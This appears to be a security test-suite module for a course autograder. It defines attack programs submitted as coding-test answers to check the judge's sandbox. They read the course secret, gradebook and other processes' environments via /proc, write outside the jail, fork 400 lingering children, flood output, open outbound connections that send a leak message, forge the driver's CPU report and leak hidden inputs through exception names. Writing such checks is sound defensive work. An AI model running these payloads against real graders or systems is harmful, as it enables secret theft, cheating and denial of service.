"""Attacks written as the coding test's answers (10_coding_test): a
``%%program`` cell's program, which the judge runs in its jail (one fresh
jail per case group, no network, only its own /tmp writable, its CPU time
and wall-clock time limited) and, in the notebook's own run, as a child of
the student's kernel. Each program is both styles at once: its top level
does the attack and prints what it found (a 백준 program's output, shown for
a failing example), and ``solution`` returns it (a 프로그래머스 program's
value, shown the same way), so whatever it reaches lands in the feedback,
where the suite searches it for the secret, hidden lines and reference
values. A success prints a marker ("LEAK" "ED", "DO" "NE", "CONNEC" "TED"),
split in the source so that a traceback quoting the line is no hit. None
solves anything: every test cell must score 0.

``ATTACKS[assignment][name]`` in the suite's format (tests/security/graded.py);
``network``: the listener's port replaces ``LISTENER_PORT`` and the suite
checks that nothing connected.
"""
from __future__ import annotations

# the two styles: q1 a solution(...) (프로그래머스), q2 a program on standard input (백준)
TARGETS = ("q1_best_sellers", "q2_peak_hours")

# what the program found goes out both ways: printed, and returned by solution
REPORT = r'''
def solution(*args):
    return found
print("\n".join(found))
'''

# the course's secret, its notebooks and gradebook, the data cache and the judge's other processes, from
# every place a program could guess: its own folder and the package's parents, the usual homes and
# temporary folders, the environment, and /proc (other processes' command lines, environments, open files)
READ_DISK = r'''
import glob, os, sys
found = []
here = os.path.dirname(os.path.abspath(sys.argv[0] if sys.argv and sys.argv[0] else "."))
tops = {here, os.getcwd(), "/", "/work", "/root", "/home", "/tmp", "/var/tmp", "/dev/shm", "/run", "/srv", "/mnt"}
p = here
for _ in range(6):
    p = os.path.dirname(p)
    tops.add(p)
course = ("secret", "gradebook.db", "nbgrader_config.py", "exercises.py", ".hints.json", ".review.json")
for top in sorted(tops):
    for name in course + (".workbook/secret", "source", "release", "submitted", "autograded", "feedback",
                          "daon-workbook-0", ".workbook"):
        path = os.path.join(top, name)
        try:
            if os.path.isdir(path):
                found.append("LEAK" "ED dir %s %s" % (path, sorted(os.listdir(path))[:5]))
            elif os.path.exists(path):
                found.append("LEAK" "ED file %s %r" % (path, open(path, "rb").read(200)))
        except OSError:
            pass
for pattern in ("/tmp/*/course/.workbook/secret", "/tmp/pytest-of-*/*/*/course/.workbook/secret",
                "/tmp/pytest-of-*/*/*/course/source/*/*.ipynb", "/tmp/daon-*/*", "/proc/[0-9]*/root/tmp/*",
                "/proc/[0-9]*/cwd/.workbook/secret"):   # a few guesses, not a walk: a case has 0.1 s of CPU time
    try:
        for path in glob.glob(pattern)[:3]:
            found.append("LEAK" "ED glob %s" % path)
    except OSError:
        pass
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for what in ("cmdline", "environ"):
            try:
                data = open("/proc/%s/%s" % (pid, what), "rb").read(300).replace(b"\0", b" ")
                found.append("proc %s %s %r" % (pid, what, data))
            except OSError:
                pass
        try:
            for fd in os.listdir("/proc/%s/fd" % pid):
                found.append("fd %s %s" % (pid, os.readlink("/proc/%s/fd/%s" % (pid, fd))))
        except OSError:
            pass
found.append("env %r" % sorted(os.environ.items()))
''' + REPORT

# writes outside the program's own (it has none): into the workbook package, the course found from the
# package's parents, the folders every process shares; a success that outlives the jail is a marker.
# The jail's own /tmp is writable and discarded with it: writing there is no success.
WRITE_OUTSIDE = r'''
import os, sys
found = []
here = os.path.dirname(os.path.abspath(sys.argv[0] if sys.argv and sys.argv[0] else "."))
package = os.path.dirname(here)
targets = [os.path.join(package, "_pwned_by_attack.py"), os.path.join(here, "_pwned_by_attack.py"),
           "/_pwned", "/work/_pwned", "/root/_pwned", "/var/tmp/_pwned", "/dev/shm/_pwned", "/run/_pwned",
           os.path.join(os.path.dirname(package), "gradebook.db"), os.path.join(os.path.dirname(package), "_pwned")]
for path in targets:
    try:
        with open(path, "w") as f:
            f.write("x = 1\n")
        found.append("DO" "NE wrote %s" % path)
    except OSError as e:
        found.append("blocked %s %s" % (path, type(e).__name__))
try:
    os.chmod(sys.argv[0], 0o777)
    found.append("DO" "NE chmod %s" % sys.argv[0])
except OSError as e:
    found.append("blocked chmod %s" % type(e).__name__)
''' + REPORT

# many processes: children that outlive the case if they can (each a `python -c` with a marker in its
# command line, which the suite then looks for on the machine), then the parent waits for them
FORK_MANY = r'''
import os, sys, time
found = []
n = 0
for i in range(400):
    try:
        if os.fork() == 0:
            try:
                os.setsid()
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "wb-fork-attack"])
            finally:
                os._exit(0)
        n += 1
    except OSError:
        break
found.append("forked %d" % n)
time.sleep(5)
''' + REPORT

# a huge output: 200 MB printed (the driver keeps 2 MB of a case), 50 MB on standard error, and a
# solution that returns 20 million numbers
HUGE_OUTPUT = r'''
import sys
block = "x" * (1 << 20) + "\n"
for _ in range(200):
    sys.stdout.write(block)
for _ in range(50):
    sys.stderr.write(block)
found = []
def solution(*args):
    return list(range(20_000_000))
'''

# the network: the suite's listener on the host, a public DNS server, a name lookup
NETWORK = r'''
import socket
found = []
for host, port in [("127.0.0.1", LISTENER_PORT), ("1.1.1.1", 53), ("example.com", 80)]:
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(b"LEAK from the judge's jail")
        s.close()
        found.append("CONNEC" "TED %s %s" % (host, port))
    except OSError as e:
        found.append("blocked %s %s %s" % (host, port, type(e).__name__))
''' + REPORT

# the judge's driver forged from inside: the program sends the driver's report of its case itself, with a CPU
# figure of its own making (a number that could spell out a hidden input; one too large to format, which once
# ended the whole notebook's grading), then ends before the driver writes the true one
FORGE_CPU = r'''
import __main__, os
__main__._send({"case": __main__._case, "status": "ok", "cpu": CPU}, b"0\n")
os._exit(0)
'''

# an exception per case picked by the case's input (here its number in the group): a name per case would spell
# out a few bits of every hidden input
NAME_PER_CASE = r'''
import builtins
n = getattr(builtins, "_cases_seen", 0)
builtins._cases_seen = n + 1
raise [KeyError, ImportError, EOFError, BufferError, ArithmeticError, LookupError][n % 6]("x")
'''

# two different exception names in one hidden group's failure (the first failing case's is the only one shown)
TWO_NAMES = r"runtime error \((\w+)\).*runtime error \((?!\1\))\w+\)"


def _program(code: str) -> dict[str, str]:
    return {gid: f"%%program {gid}\n{code.strip()}\n" for gid in TARGETS}


ATTACKS = {
    "10_coding_test": {
        "program_reads_disk": dict(answers=_program(READ_DISK),
                                   doc="the course's secret, notebooks, gradebook and data cache, and the judge's "
                                       "processes, looked for from a program in the judge's jail"),
        "program_writes_outside": dict(answers=_program(WRITE_OUTSIDE),
                                       doc="writes into the workbook package, the course and shared folders"),
        "program_forks_many": dict(answers=_program(FORK_MANY),
                                   doc="400 children that try to outlive the case (the jail's pids cgroup, its "
                                       "CPU budget, its wall-clock limit, and its end killing them all)"),
        "program_huge_output": dict(answers=_program(HUGE_OUTPUT),
                                    doc="200 MB printed, 50 MB on standard error, a 20-million-item return value"),
        "program_forges_cpu": dict(answers=_program(FORGE_CPU.replace("CPU", "987654.25")),
                                   absent={f"test_{gid}_efficiency": "987654" for gid in TARGETS},
                                   doc="the driver's report forged from the program: a CPU figure that could "
                                       "spell out a hidden input is not shown"),
        "program_forges_huge_cpu": dict(answers=_program(FORGE_CPU.replace("CPU", "10 ** 400")),
                                        doc="a forged CPU figure too large to format: the notebook is still "
                                            "graded (once nbgrader autograde failed on it)"),
        "program_names_exceptions": dict(answers=_program(NAME_PER_CASE),
                                         absent={f"test_{gid}_correct_2": TWO_NAMES for gid in TARGETS},
                                         doc="an exception per hidden case: a hidden group names one"),
        "program_network": dict(answers=_program(NETWORK), network=True,
                                doc="a connection to the host's listener, a public DNS server, a name lookup"),
    },
}
